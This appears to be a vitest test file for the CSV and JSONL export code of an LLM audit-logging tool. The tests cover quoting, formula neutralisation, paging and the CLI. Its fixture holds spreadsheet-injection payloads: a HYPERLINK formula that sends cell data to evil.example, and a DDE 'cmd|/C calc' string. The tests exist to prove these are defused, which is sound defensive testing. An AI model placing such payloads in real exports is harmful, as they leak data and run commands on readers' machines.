import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AUDIT_EVENT_FIELDS, type AuditEvent } from '../../src/core/audit-event.js';
import { csvCell, csvHeader, csvRow } from '../../src/export/csv-row.js';
import { exportEvents } from '../../src/export/export-events.js';
import { jsonlLine } from '../../src/export/jsonl-line.js';
import { timeWindowPages } from '../../src/export/time-window-pages.js';
import type { EventFilter, EventStore } from '../../src/store/event-store.js';
import { openSqlite } from '../../src/store/sqlite/open-sqlite.js';
import { SqliteEventStore } from '../../src/store/sqlite/sqlite-event-store.js';
import { cli } from '../support/run-cli.js';
import { testEvent } from '../support/test-event.js';

const T0 = Date.UTC(2026, 10, 20, 12, 0, 0);

/** Event `i` at `ms`, with the fields the exports are checked on. */
function event(i: number, ms: number, patch: Partial<AuditEvent> = {}): AuditEvent {
  return testEvent(
    {
      timestamp: new Date(ms).toISOString(),
      model_requested: 'gpt-4.1',
      input_tokens: i,
      cost_micro_usd: i * 10,
      latency_ms: 12.5,
      ...patch,
    },
    i,
  );
}

/** RFC 4180 reader for the test: quoted cells, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) throw new Error('CSV does not end with CRLF');
  return rows;
}

class Sink extends Writable {
  text = '';
  override _write(chunk: Buffer, _enc: BufferEncoding, cb: () => void): void {
    this.text += chunk.toString('utf8');
    cb();
  }
}

// Values chosen to break naive writers: separators, quotes, line breaks, JS line separators, formulas.
const NASTY: Partial<AuditEvent> = {
  user_id: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  feature_name: '+1+cmd|/C calc!A0',
  session_id: '-2+3',
  team: '@SUM(1,2)',
  user_agent: 'agent, "quoted"\r\nsecond line',
  prompt: 'line one\nline two \u2028 sep \u2029 para\ttab',
  error_message: '\t=1+1',
  redactions: [{ type: 'email', count: 2 }],
  threat_indicators: ['content.secret'],
};

describe('export formats', () => {
  it('CSV cells: RFC 4180 quoting and spreadsheet-formula neutralisation', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(false)).toBe('false');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@A1')).toBe("'@A1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell([{ type: 'email', count: 1 }])).toBe('"[{""type"":""email"",""count"":1}]"');
    expect(csvHeader().split(',')).toEqual([...AUDIT_EVENT_FIELDS]);
  });

  it('JSONL lines: one line per event, CR/LF and U+2028/2029 escaped, parses back to the same event', () => {
    const e = event(1, T0, NASTY);
    const line = jsonlLine(e);
    expect(line).not.toMatch(/[\r\n\u2028\u2029]/);
    expect(line).toContain('\\u2028');
    expect(JSON.parse(line)).toEqual(e);
  });

  it('a CSV record has exactly one cell per schema field, and no cell a spreadsheet would evaluate', () => {
    const rows = parseCsv(`${csvHeader()}\r\n${csvRow(event(1, T0, NASTY))}\r\n`);
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(AUDIT_EVENT_FIELDS.length);
    for (const cell of rows[1]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('exporting from a store', () => {
  let dir: string;
  let store: SqliteEventStore;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'tollgate-export-'));
    store = new SqliteEventStore(openSqlite(join(dir, 'tollgate.db')));
  });
  afterEach(async () => {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('round-trips JSONL and CSV with hostile values', async () => {
    const events = [
      event(1, T0, NASTY),
      event(2, T0 + 1000),
      event(3, T0 + 2000, { status: 'SERVER_ERROR', http_status_code: 500, cost_micro_usd: null }),
    ];
    await store.append(events);
    const stored = await store.query({ order: 'asc' });

    const jsonl = new Sink();
    expect(await exportEvents(store, jsonl, { format: 'jsonl', sinceMs: T0, untilMs: T0 + 3000 })).toBe(3);
    const lines = jsonl.text.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((l) => JSON.parse(l) as AuditEvent)).toEqual(stored);

    const csv = new Sink();
    await exportEvents(store, csv, { format: 'csv', sinceMs: T0, untilMs: T0 + 3000 });
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual([...AUDIT_EVENT_FIELDS]);
    expect(rows).toHaveLength(4);
    for (let r = 0; r < stored.length; r++) {
      const e = stored[r]!;
      const row = rows[r + 1]!;
      AUDIT_EVENT_FIELDS.forEach((f, i) => {
        const v = e[f];
        const cell = row[i]!;
        if (v === null) expect(cell).toBe('');
        else if (typeof v === 'string') expect(/^[=+\-@\t\r]/.test(v) ? cell.slice(1) : cell).toBe(v);
        else if (typeof v === 'object') expect(JSON.parse(cell)).toEqual(v);
        else expect(cell).toBe(String(v));
      });
    }
    expect(rows[1]![AUDIT_EVENT_FIELDS.indexOf('user_id')]).toBe(`'${NASTY.user_id!}`);
  });

  it('time bounds: since inclusive, until exclusive', async () => {
    await store.append([event(1, T0 - 1), event(2, T0), event(3, T0 + 500), event(4, T0 + 1000)]);
    const out = new Sink();
    expect(await exportEvents(store, out, { format: 'jsonl', sinceMs: T0, untilMs: T0 + 1000 })).toBe(2);
    expect(
      out.text
        .trim()
        .split('\n')
        .map((l) => (JSON.parse(l) as AuditEvent).input_tokens),
    ).toEqual([2, 3]);
  });

  it('pages through many events in bounded pages, each exactly once, oldest first', async () => {
    // 3 000 events over 10 minutes, with bursts: 120 in one millisecond (more than a page) and a
    // quiet hour before them, written out of time order.
    const events: AuditEvent[] = [];
    for (let i = 0; i < 2880; i++) events.push(event(i, T0 + 3_600_000 + ((i * 7919) % 600_000)));
    for (let i = 2880; i < 3000; i++) events.push(event(i, T0 + 3_600_000 + 300_000));
    for (let k = 0; k < events.length; k += 500) await store.append(events.slice(k, k + 500));
    const largest: number[] = [];
    const counting: EventStore = Object.assign(Object.create(store) as EventStore, {
      query: async (f: EventFilter) => {
        const r = await store.query(f);
        largest.push(r.length);
        return r;
      },
    });
    const seen: AuditEvent[] = [];
    for await (const page of timeWindowPages(counting, {
      sinceMs: T0,
      untilMs: T0 + 7_200_000,
      pageSize: 100,
    }))
      seen.push(...page);
    expect(seen).toHaveLength(3000);
    expect(new Set(seen.map((e) => e.id)).size).toBe(3000);
    for (let i = 1; i < seen.length; i++) expect(seen[i - 1]!.timestamp <= seen[i]!.timestamp).toBe(true);
    // Every query was bounded by the page size, except the one read of the overfull millisecond.
    expect(largest.filter((n) => n > 101)).toEqual([120]);
  });

  it('tollgate export --format csv --out FILE and jsonl to stdout', async () => {
    const now = Date.now();
    await store.append([event(1, now - 60_000, NASTY), event(2, now - 30_000), event(3, now - 7_200_000)]);
    const db = join(dir, 'tollgate.db');
    const out = join(dir, 'events.csv');
    const r = await cli(['export', '--db', db, '--since', '1h', '--format', 'csv', '--out', out]);
    expect(r.code).toBe(0);
    const rows = parseCsv(readFileSync(out, 'utf8'));
    expect(rows).toHaveLength(3);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const j = await cli(['export', '--db', db, '--since', '1h']);
    expect(j.code).toBe(0);
    expect(
      j.out
        .trim()
        .split('\n')
        .map((l) => (JSON.parse(l) as AuditEvent).input_tokens),
    ).toEqual([1, 2]);
    expect((await cli(['export', '--db', db, '--since', '1h', '--format', 'xml'])).code).toBe(2);
    expect((await cli(['export', '--db', db])).code).toBe(2);
  });
});
